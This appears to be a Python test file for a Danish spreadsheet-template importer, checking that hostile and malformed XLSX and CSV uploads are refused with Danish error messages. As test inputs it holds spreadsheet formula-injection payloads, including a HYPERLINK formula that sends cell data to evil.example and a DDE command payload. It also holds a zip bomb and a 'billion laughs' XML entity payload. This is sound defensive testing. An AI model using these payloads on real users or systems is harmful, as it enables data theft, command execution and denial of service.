"""Hostile and broken spreadsheets: every one is refused with a Danish error, nothing read."""

from __future__ import annotations

import io
import zipfile

import pytest

from graph.data.knowledge import Knowledge
from graph.io.spreadsheet import Limits, SpreadsheetError, neutralise, read_tables
from graph.io.template import read_template
from tests.io.helpers import csv_text, rezip, xlsx

HEADER = ["enhed", "KLE-nummer", "rolle", "status", "kilde", "note", "kontaktpunkt telefon"]


def _refused(kg: Knowledge, data: bytes, **kwargs: object) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        read_template(kg, data, **kwargs)  # type: ignore[arg-type]
    return caught.value


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "=1+1",
    ],
)
def test_a_formula_cell_is_refused_naming_sheet_row_and_column(kg: Knowledge, formula: str) -> None:
    data = xlsx({"Ansvar": [HEADER, ["SOF", "32.03.16", "ansvarlig", "antaget", "kk-dk", formula]]})
    error = _refused(kg, data)
    assert error.kind == "invalid"
    assert [str(e) for e in error.errors] == [
        "Ark 'Ansvar', række 2, kolonne F: cellen indeholder en formel; skriv værdien i stedet"
    ]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_injection_prefixes_are_refused(kg: Knowledge, prefix: str) -> None:
    cell = f'"{prefix}SUM(A1)"'  # quoted, as a spreadsheet writes a cell with a line break
    text = csv_text([HEADER, ["SOF", "32.03.16", "ansvarlig", "antaget", "kk-dk", cell]])
    error = _refused(kg, text.encode())
    (problem,) = error.errors
    assert (problem.sheet, problem.row, problem.column) == (None, 2, "F")
    assert str(problem).startswith("CSV-filen, række 2, kolonne F: teksten begynder med")
    assert "formel" in problem.message


def test_injection_behind_the_text_marker_is_still_refused(kg: Knowledge) -> None:
    text = csv_text([HEADER, ["SOF", "32.03.16", "ansvarlig", "antaget", "kk-dk", "'=1+1"]])
    assert _refused(kg, text.encode()).errors[0].column == "F"


def test_a_phone_number_with_plus_is_not_a_formula(kg: Knowledge) -> None:
    rows = [HEADER, ["SOF", "", "", "antaget", "kk-dk", "", "'+45 33 66 14 00"]]
    (contact,) = read_template(kg, csv_text(rows).encode())
    assert contact.telephone == ("+45 33 66 14 00",)  # type: ignore[union-attr]
    assert neutralise("+45 33 66 14 00") == "'+45 33 66 14 00"


def test_every_error_in_a_file_is_collected(kg: Knowledge) -> None:
    text = csv_text(
        [
            [*HEADER, "alder fra", "alder til", "gyldig fra"],
            ["Forvaltningen for Rumfart og Tidsrejser", "32.03.16", "ansvarlig", "antaget", "",
             "n", "", "", "", ""],
            ["SOF", "99.99.99", "chef", "", "", "", "", "atten", "", ""],
            ["SOF", "32.03.16", "ansvarlig", "bekræftet", "", "", "", "70", "20", "32-13-2026"],
        ]
    )  # fmt: skip
    error = _refused(kg, text.encode())
    where = {(e.row, e.column) for e in error.errors}
    assert {(2, "A"), (3, "B"), (3, "C"), (3, "D"), (3, "H"), (4, "E"), (4, "I"), (4, "J")} <= where
    messages = " | ".join(str(e) for e in error.errors)
    assert "CSV-filen, række 3, kolonne C: ukendt rolle 'chef'" in messages
    assert "række 3, kolonne H: alderen skal være et helt antal år" in messages
    assert "række 4, kolonne E: kilden skal udfyldes" in messages
    assert "række 4, kolonne J: ugyldig dato '32-13-2026'" in messages
    assert "række 3, kolonne D: status skal udfyldes" in messages


def test_an_unknown_unit_comes_with_suggestions(kg: Knowledge) -> None:
    text = csv_text(
        [HEADER, ["Borgercenter Handic", "27.60", "ansvarlig", "antaget", "kk-dk", "n"]]
    )
    try:
        rows = read_template(kg, text.encode())
    except SpreadsheetError as err:
        (problem,) = err.errors
        assert problem.column == "A"
        assert "sof-borgercenter-handicap" in {s.id for s in problem.suggestions}
    else:  # the search was confident: then it must have found the right unit
        assert rows[0].unit == "sof-borgercenter-handicap"  # type: ignore[union-attr]


def test_an_unknown_kle_number_names_the_nearest(kg: Knowledge) -> None:
    text = csv_text([HEADER, ["SOF", "32.03.99", "ansvarlig", "antaget", "kk-dk", "n"]])
    (problem,) = _refused(kg, text.encode()).errors
    assert problem.column == "B" and problem.suggestions
    assert all(s.id.startswith("kle-32.03") for s in problem.suggestions)


def test_a_missing_required_column_and_an_unknown_column_are_named(kg: Knowledge) -> None:
    text = csv_text([["enhed", "KLE-nummer", "chefens skostørrelse"], ["SOF", "32.03.16", "44"]])
    messages = [str(e) for e in _refused(kg, text.encode()).errors]
    assert "CSV-filen, række 1, kolonne C: ukendt kolonne 'chefens skostørrelse'" in messages[0]
    assert "CSV-filen, række 1: kolonnen 'status' mangler" in messages


def test_the_xlsx_template_needs_its_sheet(kg: Knowledge) -> None:
    error = _refused(kg, xlsx({"Ark1": [HEADER]}))
    assert str(error.errors[0]) == "Filen: regnearket har intet ark med navnet 'Ansvar'"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "hverken et XLSX-regneark eller en CSV-fil"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "det gamle Excel-format (.xls)"),
        (b"PK\x03\x04 broken zip", "hverken et XLSX-regneark eller en CSV-fil"),
    ],
)
def test_what_is_not_a_spreadsheet_is_refused(kg: Knowledge, data: bytes, message: str) -> None:
    error = _refused(kg, data)
    assert error.kind == "not-a-spreadsheet"
    assert message in str(error)


def test_a_zip_that_is_not_a_workbook_is_refused(kg: Knowledge) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hej")
    assert _refused(kg, buffer.getvalue()).kind == "not-a-spreadsheet"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(kg: Knowledge) -> None:
    bomb = rezip(xlsx({"Ansvar": [HEADER]}), {"xl/media/bomb.bin": b"\x00" * 60_000_000})
    assert len(bomb) < 200_000
    error = _refused(kg, bomb)
    assert error.kind == "too-large"
    assert "fylder for meget udpakket" in str(error)


def test_xml_entities_are_refused(kg: Knowledge) -> None:
    data = xlsx({"Ansvar": [HEADER]})
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><sst>&lol2;</sst>'
    )
    error = _refused(kg, rezip(data, {"xl/sharedStrings.xml": laughs}))
    assert "DOCTYPE" in str(error)


def test_too_many_rows_and_too_large_files_are_refused(kg: Knowledge) -> None:
    rows = [HEADER] + [["SOF", "32.03.16", "ansvarlig", "antaget", "", "n"]] * 30
    limits = Limits(max_rows=20)
    for data in (xlsx({"Ansvar": rows}), csv_text(rows).encode()):
        error = _refused(kg, data, limits=limits)
        assert error.kind == "too-large"
        assert "for mange rækker (højst 20)" in str(error)
    error = _refused(kg, csv_text(rows).encode(), limits=Limits(max_bytes=100))
    assert error.kind == "too-large"


def test_too_many_cells_are_refused(kg: Knowledge) -> None:
    rows = [HEADER] + [["SOF", "32.03.16", "ansvarlig", "antaget", "", "n"]] * 10
    error = _refused(kg, xlsx({"Ansvar": rows}), limits=Limits(max_cells=30))
    assert error.kind == "too-large" and "for mange udfyldte celler" in str(error)


def test_danish_excel_csv_is_read_whatever_its_dialect(kg: Knowledge) -> None:
    rows = [HEADER, ["Borgercenter Børn og Unge", "28.00", "ansvarlig", "antaget", "kk-dk", "n"]]
    variants = {
        "utf-8 bom ;": ("\ufeff" + csv_text(rows)).encode("utf-8"),
        "utf-8 ,": csv_text(rows, ",").encode("utf-8"),
        "windows-1252 ;": csv_text(rows).encode("cp1252"),
    }
    found = {name: read_template(kg, data) for name, data in variants.items()}
    units = {name: [r.unit for r in rows] for name, rows in found.items()}
    assert len(set(map(tuple, units.values()))) == 1
    assert all(r.task == "kle-28.00" for rows in found.values() for r in rows)  # type: ignore[union-attr]


def test_a_truncated_quote_in_csv_is_an_error_not_a_crash(kg: Knowledge) -> None:
    error = _refused(kg, b'enhed;status\r\n"SOF;antaget\r\n')
    assert error.kind == "invalid"


def test_read_tables_gives_text_cells(kg: Knowledge) -> None:
    from datetime import date

    (table,) = read_tables(xlsx({"Ansvar": [["a", "b", "c"], [5, 27.6, date(2026, 1, 1)]]}))
    assert table.rows[1] == ("5", "27.6", "2026-01-01")
